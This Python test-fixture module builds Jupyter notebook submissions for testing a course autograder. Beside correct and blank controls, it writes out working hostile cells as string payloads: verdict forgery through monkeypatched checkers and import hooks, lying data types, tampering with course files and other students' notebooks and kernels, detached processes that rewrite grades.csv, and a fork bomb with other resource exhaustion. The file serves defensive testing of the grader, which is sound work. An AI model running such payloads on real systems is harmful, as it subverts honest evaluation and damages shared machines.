"""Submissions for the grader's tests and benchmark, made from the exercise notebooks themselves:
a blank and a correct notebook of every exercise, and hostile ones, one per attack class of issue 16
(forged verdicts, lying data, course and neighbour tampering, surviving processes, report attacks,
resource attacks, gaming), plus broken and mislabelled files."""

from __future__ import annotations

import contextlib
import functools
import io
import os
from pathlib import Path

import nbformat

from coursebook.editions import student_notebook
from coursebook.student_branch import stamp_exercise

ROOT = Path(__file__).resolve().parents[1]
TOPICS = sorted(p.stem for p in (ROOT / "exercises").glob("*.ipynb"))
MARKER = "survivor-marker-7f3a9c"

RIGHT_STRATEGY = '''def my_strategy(my_moves, their_moves):
    """Tit for two tats: retaliate only after two defections in a row."""
    return "D" if their_moves[-2:] == ("D", "D") else "C"'''

REFLECTION = '''reflection = """
When the stakes were asymmetric, the large partner that demanded equal value in every exchange
broke cooperation and ended up worse off, which speaks to the essay's evidence of asymmetric
dependence between Korea and the United States. The model leaves out linkage across issues.
"""'''

#: A notebook that redefines and monkeypatches the checkers, Feedback and the import system so
#: that its own check cells say "Correct" for wrong answers.
CHEAT = '''import importlib.abc, importlib.util, sys
import techdiplomacy.exercises.reciprocity as rec
from techdiplomacy.exercises.feedback import Feedback
from techdiplomacy.exercises.tasks import Task

def always_right(answer):
    return Feedback(True, "Correct!")

check_tft_scores = check_breach = check_strategy = check_reflection = always_right
rec.check_tft_scores = rec.check_breach = rec.check_strategy = always_right
rec.TASKS = tuple(Task(t.key, t.title, t.answer, always_right, t.level, t.points, t.open_answer) for t in rec.TASKS)
Feedback.__bool__ = lambda self: True

class Impostor(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Serves the patched module whenever anyone imports the exercise again."""
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "techdiplomacy.exercises.reciprocity" else None
    def create_module(self, spec):
        return rec
    def exec_module(self, module):
        pass

sys.meta_path.insert(0, Impostor())

import json
_real_dump = json.dump

def forged_dump(obj, fp, **options):
    """Turns every verdict a grader might write with json.dump into "correct"."""
    for verdict in obj.get("verdicts", {}).values() if isinstance(obj, dict) else ():
        verdict["correct"] = True
    return _real_dump(obj, fp, **options)

json.dump = forged_dump'''

#: Hooks that outlive a cell, each trying to forge what leaves the kernel: the export call is
#: rewritten by an input transformer to send "verdicts" and fake answer kinds; post_run_cell, a
#: thread, sys.settrace, gc.callbacks and a __del__ in sys.modules patch the checkers and json.
FORGE_HOOKS = r'''import gc, json, sys, threading, time
import techdiplomacy.exercises.reciprocity as rec
from techdiplomacy.exercises.feedback import Feedback

def always(*args, **kwargs):
    return Feedback(True, "Correct!")

def forge(*args):
    for name in ("check_tft_scores", "check_breach", "check_strategy", "check_reflection"):
        setattr(rec, name, always)
    Feedback.__bool__ = lambda self: True

def forged_export(path, nonce, names, *rest):
    import socket
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    channel.connect(path)
    fake = {name: {"kind": "verdict", "correct": True, "points": 99} for name in names}
    channel.sendall((json.dumps({"nonce": nonce, "answers": fake, "verdicts": {"task1": {"correct": True}}}) + "\n").encode())
    stream = channel.makefile("rwb")
    while stream.readline():
        stream.write(b'"C"\n'); stream.flush()

def transformer(lines):
    return [("forged_export(" + line[len("__grader_export("):]) if line.startswith("__grader_export(") else line for line in lines]

get_ipython().input_transformers_post.append(transformer)
get_ipython().events.register("post_run_cell", forge)

def tracer(frame, event, arg):
    if frame.f_code.co_name == "__grader_export" and event == "return":
        answers = frame.f_locals.get("answers")
        if isinstance(answers, dict):
            for key in list(answers):
                answers[key] = {"kind": "verdict", "correct": True}
    return tracer

sys.settrace(tracer)
threading.settrace(tracer)
gc.callbacks.append(lambda phase, info: forge())

def keep_forging():
    while True:
        forge()
        time.sleep(0.01)

threading.Thread(target=keep_forging, daemon=True).start()

class Haunt:
    def __del__(self):
        forge()

sys.modules["haunt"] = Haunt()'''

#: A finder put first in the import system and a patched SourceLoader: any later import of the
#: exercise (by a grader in the kernel) gets an always-correct checker module.
FORGE_FINDER = r'''import importlib.abc, importlib.machinery, importlib.util, sys, types
from techdiplomacy.exercises.feedback import Feedback

BACKDOOR = "from techdiplomacy.exercises.feedback import Feedback\ndef _ok(*a, **k):\n    return Feedback(True, 'Correct!')\n"

class Backdoor(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("techdiplomacy.exercises."):
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        exec(BACKDOOR, module.__dict__)
        for key in ("check_tft_scores", "check_breach", "check_strategy", "check_reflection"):
            module.__dict__[key] = module._ok

sys.meta_path.insert(0, Backdoor())
original = importlib.machinery.SourceFileLoader.get_code
def get_code(self, fullname):
    code = original(self, fullname)
    return compile(BACKDOOR, self.path, "exec") if "exercises" in fullname else code
importlib.machinery.SourceFileLoader.get_code = get_code
for name in [m for m in sys.modules if m.startswith("techdiplomacy.exercises.")]:
    del sys.modules[name]'''

#: A function answer that walks the stack to whatever calls it and rewrites the caller's verdicts.
FORGE_STACK = r'''import sys

def my_strategy(my_moves, their_moves):
    frame = sys._getframe(1)
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            if key in ("result", "verdict", "verdicts", "answers", "report") and isinstance(value, dict):
                for inner in value:
                    value[inner] = {"correct": True, "kind": "verdict"}
        frame.f_globals.get("__builtins__")
        frame = frame.f_back
    return "D"'''

LYING = r'''class Yes(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __getitem__(self, index): return Liar(19.0 if index == 0 else 24.0)

class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return False
    def __gt__(self, other): return False

class Sure(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __contains__(self, other): return True
    def lower(self): return self
    def split(self, *a): return ["word"] * 500

class Many(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0

scores = Yes((0, 0))
breach = (Liar(0), Many(0))
reflection = Sure("x")'''

TAMPER_COURSE = r'''import json, os, pathlib, re
import techdiplomacy
root = pathlib.Path(techdiplomacy.__file__).resolve().parents[1]
log = []
targets = [root / "techdiplomacy" / "exercises" / "reciprocity.py",
           next(iter(sorted((root / "data").glob("*.csv"))), root / "data" / "x.csv"),
           root / "techdiplomacy" / "exercises" / "__pycache__" / "reciprocity.cpython-311.pyc",
           root / "coursebook" / "grading" / "judge.py"]
for target in targets:
    try:
        target.parent.mkdir(exist_ok=True)
        with open(target, "a") as handle:
            handle.write("\n# BACKDOOR\n")
        log.append(f"wrote {target}")
    except OSError as error:
        log.append(f"{target}: {error.strerror}")
for solutions in [root / "exercises" / "reciprocity.ipynb", root / "instructor", root / "_build"]:
    try:
        text = solutions.read_text()
    except OSError:
        continue
    found = re.search(r"check_tft_scores\(\((\d+), (\d+)\)\)", text)
    if found:
        scores = (int(found.group(1)), int(found.group(2)))
print(log)'''

TAMPER_NEIGHBOURS = r'''import glob, json, os
own = os.path.abspath("submission.ipynb")
found = []
for pattern in ("/tmp/**/*.ipynb", "/home/**/*.ipynb", "/work/*/*/*.ipynb", "/root/*.ipynb", "/run/**/*.ipynb"):
    found += glob.glob(pattern, recursive=True)
for path in found:
    if os.path.abspath(path) == own:
        continue
    try:
        text = open(path).read()
        with open(path, "w") as handle:
            handle.write(text.replace("scores = (19, 24)", "scores = (0, 0)"))
    except OSError:
        pass
connections = []
for pattern in ("/tmp/**/kernel-*.json", "/root/.local/share/jupyter/runtime/*.json", "/home/*/.local/share/jupyter/runtime/*.json",
                "/run/user/*/jupyter/*.json", "/run/user/*/jupyter/runtime/*.json"):
    connections += glob.glob(pattern, recursive=True)
from jupyter_client import BlockingKernelClient
from ipykernel import get_connection_file
for connection in connections:
    if os.path.abspath(connection) == os.path.abspath(get_connection_file()):
        continue
    try:
        client = BlockingKernelClient(connection_file=connection)
        client.load_connection_file()
        client.start_channels()
        client.execute("scores = (0, 0); breach = (0, 0); my_strategy = None", store_history=False)
        client.stop_channels()
    except Exception:
        pass'''

SURVIVOR = r'''import os, subprocess, sys
code = """
import glob, time
time.sleep(6)
for path in glob.glob('/tmp/**/grades.csv', recursive=True) + glob.glob('/work/**/grades.csv', recursive=True):
    open(path, 'w').write('student,total\\nsurvivor,999\\n')
# MARKER
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)'''.replace("MARKER", MARKER)

MEMORY = '''try:
    hog = bytearray(16 * 1024**3)
except MemoryError:
    hog = None
blocks = []
try:
    while True:
        blocks.append(bytearray(256 * 1024**2))
except MemoryError:
    blocks = None'''

FORK = '''import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError:
    pass'''

BIG_FILE = '''chunk = b"x" * (1024 * 1024)
for path in ("big.bin", "/tmp/big.bin"):
    try:
        with open(path, "wb") as handle:
            for _ in range(200):
                handle.write(chunk)
    except OSError:
        pass'''

BIG_OUTPUT = '''print("x" * 200_000_000)
for _ in range(60):
    print("y" * 1_000_000)'''

STUBBORN_LOOP = '''import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.05)'''

ANSI = 'raise RuntimeError("\\x1b[2K\\r\\x1b[32mzed.ipynb   reciprocity   7/7\\x1b[0m")'

LOOP_OVER_CHECKERS = '''import itertools
candidates = ["A", "B", "C", "D"]
eu_end_state = next((c for c in candidates if check_eu_end_state(c).correct), ...)
shock_ends = next(({"A1": a, "A2": b, "A3": c} for a, b, c in itertools.product(candidates, repeat=3)
                   if check_shock_ends({"A1": a, "A2": b, "A3": c}).correct), {"A1": ..., "A2": ..., "A3": ...})'''


def exercise(topic: str) -> nbformat.NotebookNode:
    """The student edition of an exercise notebook, stamped as the student branch stamps it."""
    notebook = nbformat.read(ROOT / "exercises" / f"{topic}.ipynb", as_version=4)
    for cell in notebook.cells:
        cell.outputs = [] if cell.cell_type == "code" else cell.get("outputs")
        if cell.cell_type == "code":
            cell.execution_count = None
    return stamp_exercise(student_notebook(notebook), topic)


def answer(notebook: nbformat.NotebookNode, name: str, source: str) -> nbformat.NotebookNode:
    """Replace the student cell that sets ``name`` with ``source``."""
    for cell in notebook.cells:
        if cell.cell_type == "code" and (cell.source.startswith(f"{name} =") or cell.source.startswith(f"def {name}(")):
            cell.source = source
            return notebook
    raise LookupError(name)


def insert_after(notebook: nbformat.NotebookNode, name: str, source: str) -> nbformat.NotebookNode:
    """Add a code cell right after the cell that checks ``name``."""
    for index, cell in enumerate(notebook.cells):
        if cell.cell_type == "code" and cell.source.strip().endswith(f"({name})"):
            notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
            return notebook
    raise LookupError(name)


def insert_first(notebook: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """Add a code cell right after the setup cell."""
    setup = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
    notebook.cells.insert(setup + 1, nbformat.v4.new_code_cell(source))
    return notebook


def append(notebook: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    notebook.cells.append(nbformat.v4.new_code_cell(source))
    return notebook


def _plain(value: object) -> object:
    """Solution values as plain Python (numpy numbers become int or float)."""
    if hasattr(value, "tolist") and type(value).__module__.split(".")[0] == "numpy":
        return value.tolist()
    if isinstance(value, dict):
        return {_plain(k): _plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple, set)):
        return type(value)(_plain(v) for v in value)
    return value


@functools.lru_cache(maxsize=None)
def solutions(topic: str) -> dict[str, object]:
    """The answers of the instructor's solution cells, as each task's checker receives them."""
    import importlib

    from coursebook.grading.submissions import _without_magics

    module = importlib.import_module(f"techdiplomacy.exercises.{topic}")
    notebook = nbformat.read(ROOT / "exercises" / f"{topic}.ipynb", as_version=4)
    namespace: dict[str, object] = {"get_ipython": lambda: None, "display": lambda *a, **k: None}
    captured: dict[str, object] = {}
    state = {"solution": False}
    cells = [c for c in notebook.cells if c.cell_type == "code"]
    exec(compile(_without_magics(cells[0].source), "setup", "exec"), namespace)  # noqa: S102 - the course's own cells
    for task in module.TASKS:
        name = task.check.__name__

        def capture(*args, _name=name, _real=namespace.get(name, task.check), _answer=task.answer):
            if state["solution"]:
                captured[_answer] = args[-1]
            return _real(*args)

        namespace[name] = capture
    for cell in cells[1:]:
        state["solution"] = "solution" in cell.metadata.get("tags", [])
        try:
            with contextlib.redirect_stdout(io.StringIO()):
                exec(compile(_without_magics(cell.source), "cell", "exec"), namespace)  # noqa: S102
        except Exception:  # noqa: BLE001 - student cells with placeholders may fail
            pass
    return {name: _plain(value) for name, value in captured.items() if not callable(value)}


def correct(topic: str) -> nbformat.NotebookNode:
    """The student edition with every answer cell set to the instructor's solution."""
    import importlib

    module = importlib.import_module(f"techdiplomacy.exercises.{topic}")
    notebook = exercise(topic)
    values = solutions(topic)
    for task in module.TASKS:
        if task.answer == "my_strategy":
            answer(notebook, "my_strategy", RIGHT_STRATEGY)
        elif task.answer in values:
            answer(notebook, task.answer, f"{task.answer} = {values[task.answer]!r}")
        else:
            raise LookupError(f"{topic}: no solution for {task.answer}")
    return notebook


def right_answers() -> nbformat.NotebookNode:
    notebook = answer(answer(exercise("reciprocity"), "scores", "scores = (19, 24)"), "breach", "breach = (10, 22.5)")
    return answer(answer(notebook, "my_strategy", RIGHT_STRATEGY), "reflection", REFLECTION)


def wrong_reciprocity() -> nbformat.NotebookNode:
    notebook = answer(answer(exercise("reciprocity"), "scores", "scores = (1, 1)"), "breach", "breach = (1, 1)")
    return answer(notebook, "my_strategy", 'def my_strategy(my_moves, their_moves):\n    return "D"')


#: What each submission of :func:`write_class` deserves: ``"full"`` (every automatically marked
#: point), ``0``, or the points per task.
FULL = "full"


def write_class(folder: Path, outside: Path) -> dict[str, dict]:
    """Write the graded folder of the tests; ``outside`` is a folder next to it (things DIR must not touch).

    Returns ``{file name (str, as os.listdir gives it): {"topic", "deserves", "why"}}``.
    """
    made: dict[str, dict] = {}

    def save(name: str, notebook: nbformat.NotebookNode | None, topic: str | None, deserves: object, why: str,
             text: str | None = None) -> None:
        path = folder / name
        if notebook is not None:
            nbformat.write(notebook, path)
        else:
            path.write_text(text or "", encoding="utf-8")
        made[name] = {"topic": topic, "deserves": deserves, "why": why}

    for topic in TOPICS:
        save(f"correct_{topic}.ipynb", correct(topic), topic, FULL, "control: the instructor's solutions")
        save(f"blank_{topic}.ipynb", exercise(topic), topic, 0, "control: the notebook as handed out")
    # Forged verdicts
    save("forge_cheat.ipynb", insert_first(wrong_reciprocity(), CHEAT), "reciprocity", 0, "redefined checkers, patched json")
    save("forge_hooks.ipynb", insert_first(wrong_reciprocity(), FORGE_HOOKS), "reciprocity", 0,
         "hooks: input transformer, post_run_cell, thread, settrace, gc.callbacks, __del__")
    save("forge_finder.ipynb", insert_first(wrong_reciprocity(), FORGE_FINDER), "reciprocity", 0, "finder and patched SourceLoader")
    save("forge_stack.ipynb", answer(wrong_reciprocity(), "my_strategy", FORGE_STACK), "reciprocity", 0,
         "a function answer that walks the stack")
    # Lying data: the three lying answers earn nothing, the honest strategy its points
    save("lying_data.ipynb", answer(answer(answer(right_answers(), "scores", LYING), "breach", "breach = breach"),
                                    "reflection", "reflection = reflection"),
         "reciprocity", {"task1": 0, "task2": 0, "task3": 4}, "str/int/float/tuple subclasses that lie")
    # Course and neighbour tampering
    save("tamper_course.ipynb", append(exercise("reciprocity"), TAMPER_COURSE), "reciprocity", 0,
         "rewrites checkers, data, bytecode; reads solutions")
    save("tamper_neighbours.ipynb", append(exercise("reciprocity"), TAMPER_NEIGHBOURS), "reciprocity", 0,
         "reads and overwrites other submissions, takes over kernels")
    save("survivor.ipynb", append(correct("policy_paths"), SURVIVOR), "policy_paths", FULL,
         "leaves detached processes that rewrite grades.csv")
    # Report attacks (more are planted by the test: grades.csv as a folder, links, a pipe)
    save("ansi_escape.ipynb", append(correct("minilateralism"), ANSI), "minilateralism", FULL, "ANSI escapes in an error")
    save(os.fsdecode(b"caf\xe9_latin1.ipynb"), correct("technology_diplomacy"), "technology_diplomacy", FULL, "a name that is not UTF-8")
    save("\u00a0correct_regulation.ipynb", exercise("regulation"), "regulation", 0, "a leading no-break space: same student")
    # Resource attacks: the honest answers around them keep their points
    save("res_memory.ipynb", insert_first(correct("policy_paths"), MEMORY), "policy_paths", FULL, "asks for 16 GB")
    save("res_fork.ipynb", insert_first(correct("minilateralism"), FORK), "minilateralism", FULL, "forks until it cannot")
    save("res_big_file.ipynb", insert_first(correct("policy_paths"), BIG_FILE), "policy_paths", FULL, "writes 200 MB files")
    save("res_big_output.ipynb", insert_first(correct("minilateralism"), BIG_OUTPUT), "minilateralism", FULL, "prints 260 MB")
    save("res_stubborn.ipynb", insert_first(correct("policy_paths"), STUBBORN_LOOP), "policy_paths", FULL,
         "a kernel that ignores interrupts")
    save("res_endless.ipynb", insert_first(correct("minilateralism"), "while True:\n    pass"), "minilateralism", FULL,
         "an endless cell")
    # Gaming: the written part of a design goes to the rubric; a loop over the shipped checkers finds nothing
    lorem = correct("minilateralism")
    design = solutions("minilateralism")["design"]
    answer(lorem, "design", f"design = {dict(design, justification=' '.join(['lorem'] * 25))!r}")
    save("game_lorem.ipynb", lorem, "minilateralism", FULL, "25 x lorem as the design's justification")
    save("game_loop.ipynb", insert_after(exercise("policy_paths"), "shock_ends", LOOP_OVER_CHECKERS), "policy_paths", 0,
         "a loop over the shipped checkers")
    # Broken and mislabelled files
    save("broken_json.ipynb", None, None, None, "invalid JSON", text='{"cells": [ this is not JSON')
    save("broken_empty.ipynb", None, None, None, "an empty file", text="")
    save("broken_no_cells.ipynb", nbformat.v4.new_notebook(), None, None, "a notebook without cells")
    save("mislabelled.ipynb", stamp_exercise(exercise("policy_paths"), "reciprocity"), None, None,
         "stamped as reciprocity, cells of policy_paths")
    string_import = insert_first(correct("fragmentation"),
                                 'note = "from techdiplomacy.exercises.regulation import check_overlap"  # just text')
    save("string_import.ipynb", string_import, "fragmentation", FULL, "an import inside a string is not an import")
    return made
